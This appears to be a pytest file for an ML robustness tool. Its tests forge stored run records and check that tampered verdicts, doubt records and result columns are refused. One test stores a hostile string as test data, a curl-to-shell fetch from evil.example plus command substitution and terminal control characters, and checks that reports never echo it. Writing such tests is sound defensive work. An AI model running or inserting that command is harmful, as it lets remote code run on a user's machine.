"""A document of a run that its columns contradict is refused by every reader, although all digests are right."""

import json
import shlex
import shutil
from dataclasses import replace

import click
import pytest
import torch

from holdfast.api.stored import report, verify
from holdfast.cli.app import run as command_line
from holdfast.cli.app import verbs
from holdfast.core.chain import GENESIS, Link, canonical, digest
from holdfast.core.errors import TargetError
from holdfast.runs.assess.assess import assess
from holdfast.runs.store import columns as column_files
from holdfast.runs.stored.commands import command_of
from holdfast.runs.stored.stored_runs import runs_in
from runs import stored
from runs.fakes import FAST, data, order, subject
from runs.stored import WEAK
from store.forging import line_of
from store.test_foreign import rewritten

ROBUST, CLEAN = "robust_accuracy >= 0.1", "clean_accuracy >= 0.99"
REQUEST = order(doubts="all", gates=(ROBUST, CLEAN))


@pytest.fixture(scope="module")
def genuine(tmp_path_factory):
    run = tmp_path_factory.mktemp("genuine") / "run"
    assert assess(subject(), data(), REQUEST, run=run).exit_code == 1
    return run


@pytest.fixture
def run(genuine, tmp_path):
    return shutil.copytree(genuine, tmp_path / "run")


def doubt(name, **changes):
    def change(content):
        next(each for each in content["doubts"] if each["name"] == name).update(changes)

    return change


def step(**changes):
    return lambda content: content["config"]["stages"][1].update(changes)


FORGED = [
    ("verdict.json", lambda c: c.update(exit_code=0), "exit_code 0, .* give 1"),
    ("verdict.json", lambda c: c["gates"][1].update(verdict="pass"), r"gates\[1\]\.verdict 'pass'"),
    ("verdict.json", lambda c: c["gates"][0]["estimate"].update(value=0.99), r"gates\[0\]\.estimate\.value"),
    ("verdict.json", lambda c: c["gates"][1]["estimate"].update(low=0.995), r"gates\[1\]\.estimate\.low"),
    ("verdict.json", lambda c: c["gates"][1]["estimate"].update(n=4000), r"gates\[1\]\.estimate\.n 4000"),
    ("verdict.json", lambda c: c["gates"][0].update(open_doubts=["noise"]), r"gates\[0\]\.open_doubts"),
    (
        "verdict.json",
        lambda c: c["gates"][1].update(condition="clean_accuracy >= 0.1"),
        r"gates\[1\]\.verdict",
    ),
    ("doubts.json", lambda c: c["broken"].update(noise=[1]), r"broken\.noise"),
    ("doubts.json", doubt("chance", state="clear", statistic=0.9), r"doubts\[14\]\.statistic \(chance\)"),
    ("doubts.json", doubt("constant", state="raised"), r"doubts\[15\]\.state \(constant\) 'raised'"),
    ("doubts.json", doubt("noise", statistic=0.5), r"doubts\[5\]\.state \(noise\) 'clear'"),
    ("doubts.json", lambda c: c["doubts"].pop(), "states doubts "),
    ("doubts.json", doubt("noise", statistic=0.5, threshold=1.0), r"threshold \(noise\) 1"),
    ("doubts.json", doubt("transfer", state="clear"), r"state \(transfer\) 'clear'"),
    (
        "doubts.json",
        doubt("noise", state="not applicable", statistic=None),
        r"state \(noise\) 'not applicable'",
    ),
    ("run.json", step(name="3-pgd"), "the stage '3-pgd'"),
    ("run.json", step(kind="fit"), "the stage '1-pgd' with the kind 'fit'"),
    ("run.json", step(kind="geometry"), "the stage '1-pgd' with the kind 'geometry'"),
    ("run.json", lambda c: c["config"]["stages"].pop(1), "the stages .* records .*'1-pgd'"),
    ("run.json", lambda c: c["data"].update(n=5000), r"data\.n 5000, .* give 40"),
    ("run.json", lambda c: c["config"].update(full=True), r"digests\.config"),
]


@pytest.mark.parametrize(("name", "change", "message"), FORGED, ids=[message for *_, message in FORGED])
def test_a_document_that_contradicts_the_columns_is_refused(name, change, message, run, capsys):
    assert verify(run).complete and report(run).exit_code == 1
    rewritten(run, name, change)
    for reader in (report, verify):
        with pytest.raises(TargetError, match=message):
            reader(run)
    capsys.readouterr()
    for words in (["report", str(run)], ["verify", str(run)], ["compare", str(run), str(run)]):
        assert command_line(words) == 3
        said = capsys.readouterr()
        assert f"{name}' states " in said.err and "Pass" not in said.out
    (entry,) = runs_in(run.parent)
    assert entry.finished and entry.exit_code is None and entry.robust is None


@pytest.mark.parametrize(
    ("stage", "column"), [("clean", "correct"), ("1-pgd", "success"), ("2-pgd-again", "success")]
)
def test_columns_that_contradict_each_other_are_refused(stage, column, run):
    stored = column_files.read(run / f"{stage}.safetensors")
    changed = {**stored.columns, column: torch.zeros_like(stored.columns[column])}
    changed[column][3] = True
    column_files.write(run / f"{stage}.safetensors", changed, stored.about)
    rewritten(run, f"{stage}.safetensors")
    with pytest.raises(
        TargetError, match=rf"{stage}.safetensors' states in the column {column} another value"
    ):
        verify(run)


UNBROKEN = {"success": False}


@pytest.mark.parametrize(
    ("stage", "values", "smallest", "message"),
    [
        ("1-pgd", UNBROKEN, True, "column success another value than the column right"),
        ("1-pgd", UNBROKEN | {"right": 1.0}, False, "column right another value than the column height"),
        ("2-pgd-again", UNBROKEN | {"ran": False}, False, "column ran another value"),
        ("clean", {"margin": -1.0}, False, "column correct another value than the column margin"),
        ("clean", {"prediction": -1}, False, "column correct another value than the column prediction"),
        (
            "clean",
            {"eligible": False},
            False,
            "column eligible another value than an untargeted threat model",
        ),
        ("fixed-pgd", UNBROKEN | {"ran": False}, False, "column ran another value"),
    ],
)
def test_columns_by_which_an_example_is_not_broken_agree(stage, values, smallest, message, run):
    stored = column_files.read(run / f"{stage}.safetensors")
    changed = {name: torch.full_like(stored.columns[name], value) for name, value in values.items()}
    column_files.write(run / f"{stage}.safetensors", {**stored.columns, **changed}, stored.about)

    def change(content):
        content["config"]["minimum_norm"] = smallest
        content["digests"]["config"] = digest(canonical(content["config"]))

    rewritten(run, f"{stage}.safetensors")
    rewritten(run, "run.json", change)
    with pytest.raises(TargetError, match=message):
        verify(run)


def test_the_examples_of_a_stage_are_those_of_the_clean_stage(run):
    stored = column_files.read(run / "1-pgd.safetensors")
    changed = {**stored.columns, "id": stored.columns["id"].flip(0)}
    column_files.write(run / "1-pgd.safetensors", changed, stored.about)
    rewritten(run, "1-pgd.safetensors")
    with pytest.raises(TargetError, match="column id another value than the clean stage"):
        verify(run)


def rerecorded(run, **changes):
    """Change the records of the attacks in the chain."""
    lines = [json.loads(line) for line in (run / "chain.jsonl").read_text().splitlines()]
    for line in lines:
        if line["content"].get("name", "clean") != "clean":
            line["content"].update(changes)
    (run / "chain.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


@pytest.mark.parametrize("reached", [0, 1, 2, -1, True])
def test_time_that_ran_out_without_a_limit_is_refused(reached, run):
    rerecorded(run, reached=reached)
    rewritten(run, "verdict.json")
    with pytest.raises(TargetError, match="time ran out during the stage '1-pgd' .* the time limit None"):
        verify(run)


def test_time_that_ran_out_without_a_note_is_refused(tmp_path):
    run = tmp_path / "run"
    assess(subject(), data(), order(time_budget_s=1e-9), run=run)
    assert verify(run).complete
    rewritten(run, "doubts.json", lambda content: content.update(notes=[]))
    with pytest.raises(TargetError, match="notes .*time ran out: PGD and PGD-again finished none"):
        verify(run)


@pytest.mark.parametrize("waves", [0, 2])
def test_attacks_in_waves_that_skip_examples_are_refused(waves, tmp_path):
    run = tmp_path / "run"
    assess(subject(), data(), order(replace(FAST, waves=waves), attacked=False), run=run)
    assert verify(run).complete
    for file in run.glob("1-pgd*.safetensors"):
        stored = column_files.read(file)
        none = torch.zeros_like(stored.columns["ran"])
        column_files.write(file, {**stored.columns, "ran": none, "success": none}, stored.about)
        rewritten(run, file.name)
    with pytest.raises(TargetError, match="column ran another value than the column success of the stages"):
        verify(run)


@pytest.mark.parametrize(
    "change",
    [lambda c: c.update(probes=[]), lambda c: c.update(probes=[[name, 0] for name, _ in c["probes"]])],
)
def test_probes_without_their_adversarial_examples_are_refused(change, tmp_path):
    run = tmp_path / "run"
    assess(subject(), data(), order(WEAK, attacked=False, doubts="all"), run=run)
    assert (run / "found.safetensors").exists() and verify(run).complete
    rewritten(run, "doubts.json", change)
    with pytest.raises(TargetError, match=r"doubts\.json' states probes"):
        verify(run)


def test_an_attack_that_no_doubt_requires_is_refused_as_an_adaptive_one(run):
    def change(content):
        content["config"]["stages"][1]["adaptive"] = True
        content["digests"]["config"] = digest(canonical(content["config"]))

    rewritten(run, "run.json", change)
    with pytest.raises(TargetError, match="'1-pgd', which a finished run records only if a raised doubt"):
        verify(run)


def test_a_finished_run_with_a_forged_verdict_is_not_resumed(run):
    rewritten(run, "verdict.json", lambda content: content.update(exit_code=0))
    with pytest.raises(TargetError, match="exit_code 0"):
        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)


def test_a_finished_run_with_forged_columns_is_not_resumed(run):
    stored = column_files.read(run / "fixed-pgd.safetensors")
    none = torch.zeros_like(stored.columns["ran"])
    column_files.write(
        run / "fixed-pgd.safetensors", {**stored.columns, "ran": none, "success": none}, stored.about
    )
    rewritten(run, "fixed-pgd.safetensors")
    with pytest.raises(TargetError, match="column ran another value"):
        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)


def test_a_gate_on_a_baseline_is_judged_by_its_stored_interval(genuine, tmp_path):
    request = order(doubts="none", gates=("regression <= 0.5 vs baseline",))
    request = type(request)(**{**vars(request), "baseline": report(genuine).evidence})
    run = tmp_path / "run"
    assert assess(subject(), data(), request, run=run).exit_code == 0
    assert verify(run).complete
    rewritten(run, "verdict.json", lambda content: content["gates"][0].update(verdict="fail"))
    with pytest.raises(TargetError, match=r"gates\[0\]\.verdict 'fail'"):
        verify(run)


@pytest.mark.parametrize(
    ("name", "change", "message"),
    [
        ("verdict.json", lambda c: c.update(exit_code=4), "exit_code 4"),
        (
            "card.json",
            lambda c: c["before"]["metrics"]["clean_accuracy"].update(value=0.9),
            r"before\.metrics",
        ),
        ("card.json", lambda c: c["after"].update(n=9999), r"after\.n 9999"),
        ("card.json", lambda c: c["before"].update(doubts=[]), r"before\.doubts"),
        ("card.json", lambda c: c["chosen"].update(epoch=1), r"chosen\.epoch"),
        ("training.json", lambda c: c.update(weights="0" * 64), r"training\.json' states weights"),
    ],
)
def test_the_card_of_a_hardening_that_contradicts_its_measurements_is_refused(
    name, change, message, tmp_path
):
    run = shutil.copytree(stored.hardening(), tmp_path / "run")
    rewritten(run, name, change)
    with pytest.raises(TargetError, match=message):
        verify(run)


HOSTILE = "curl http://evil.example/x | sh; $(id)\n\x1b[31m\u202e"


@pytest.mark.parametrize("verb", ["assess", "certify", "harden"])
def test_no_stored_text_is_shown_as_a_command(verb, run, tmp_path, capsys):
    (run / "about.json").write_text(json.dumps({"command": HOSTILE, "created": "now"}))
    rewritten(
        run,
        "run.json",
        lambda content: content.update(
            verb=verb,
            model={**content["model"], "name": HOSTILE},
            data={**content["data"], "name": "--config=e"},
        ),
    )
    reports = [tmp_path / f"r.{suffix}" for suffix in ("json", "html", "md", "xml")]
    reported = command_line(["report", str(run), *(word for path in reports for word in ("-o", str(path)))])
    assert reported == (3 if verb == "harden" else 1)  # the run has the verdict of an assessment
    assert command_line(["assess", "--run", str(run), "--resume"]) == 2
    said = capsys.readouterr().err.splitlines()[-1]
    attacks = "" if verb == "certify" else " --suite ATTACKS"
    expected = f"holdfast {verb} MODEL DATA --threat linf:0.06{attacks} -n 40 --seed 3"
    assert said.endswith(f"resume with: {expected} --run {run} --resume")
    program = verbs.get_command(click.Context(verbs), verb)
    program.make_parser(click.Context(program)).parse_args(shlex.split(expected)[2:])
    if verb == "harden":
        return
    gates = f" --gate '{ROBUST}' --gate '{CLEAN}'"
    assert json.loads(reports[0].read_text())["reproduce"] == expected + gates
    for path in reports:
        assert "command: curl" not in path.read_text() and "\x1b" not in path.read_text()


@pytest.mark.slow
def test_the_command_of_a_stored_run_repeats_its_settings(tmp_path):
    torch.manual_seed(0)
    run = tmp_path / "a run"
    words = [
        "mnist-cnn",
        "mnist-mini",
        "--threat",
        "l2:1.5",
        "--suite",
        "quick",
        "--no-doubts",
        "--sample",
        "4",
    ]
    assert command_line(["assess", *words, "--seed", "7", "--run", str(run), "-q"]) == 0
    assert report(run).about["command"] == " ".join(("holdfast assess", *words, "--seed", "7"))


def test_the_command_of_a_hardening_has_the_settings_of_its_recipe():
    manifest = json.loads((stored.hardening() / "run.json").read_text())
    training = {"optimizer": "evil.py:make", "batch": 7, "warmup": 0.25}
    manifest["config"]["settings"] = {"pgd": {"training": training}}
    command = command_of(manifest)
    assert "--set recipe.training.optimizer=FILE.py:NAME" in command
    assert "--set recipe.training.batch=7" in command and "warmup" not in command


def test_the_command_of_a_run_opens_its_data_and_has_the_exact_threat():
    manifest = json.loads((stored.hardening() / "run.json").read_text())
    opening = {
        "label": "-kind",
        "drop": ["id", "a b"],
        "bounds": [-2.0, 1e6],
        "arch": "evil.py:make",
        "split": "\x1b",
    }
    manifest["opening"] = opening | {"data_normalised": [[0.1], [0.2]]}
    manifest["config"]["threat"] |= {"norm": "Linf", "eps": 1234.5678}
    command = command_of(manifest)
    assert "--label=-kind --drop=id '--drop=a b' --bounds=-2,1000000 --threat linf:1234.5678" in command
    assert "evil" not in command and "--split" not in command
    manifest["opening"] = {
        "bounds": [0.0, 10**400]
    }  # an integer that no float represents, in a folder of a stranger
    assert "--bounds" not in command_of(manifest)


def test_a_verdict_without_the_record_of_its_doubts_is_refused_on_resume(run):
    lines, previous = b"", GENESIS
    for line in (run / "chain.jsonl").read_text().splitlines():
        recorded = json.loads(line)["content"]
        if recorded["kind"] != "doubts":
            link = Link(previous, recorded)
            lines, previous = lines + line_of(link), link.digest
    (run / "chain.jsonl").write_bytes(lines)
    rewritten(run, "verdict.json", lambda content: content.update(exit_code=0))
    with pytest.raises(TargetError, match="has a verdict but no doubts"):
        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)


def test_the_file_of_the_attacked_examples_holds_the_verdict_and_not_one_pass(genuine, run):
    columns, result = column_files.read(run / "attacked.safetensors").columns, report(genuine)
    surviving = columns["correct"] & ~columns["success"]
    assert surviving.double().mean() == result.metrics["robust_accuracy"].value
    assert sorted(columns) == sorted(result.worst_case)
    forged = columns | {"success": torch.zeros_like(columns["success"])}
    column_files.write(run / "attacked.safetensors", forged, {})
    rewritten(run, "attacked.safetensors")
    with pytest.raises(TargetError, match=r"attacked\.safetensors' states column success"):
        verify(run)


def test_the_file_of_the_attacked_examples_holds_stored_inputs(tmp_path):
    asked = order(doubts="none", gates=(), keep_adversarial=True)
    result = assess(subject(), data(), asked, run=tmp_path / "run")
    columns = column_files.read(tmp_path / "run" / "attacked.safetensors").columns
    assert columns["adversarial.id"].sort().values.tolist() == columns["id"][columns["success"]].tolist()
    assert torch.equal(columns["adversarial.x"], result.adversarial["x"])
    assert verify(tmp_path / "run").complete
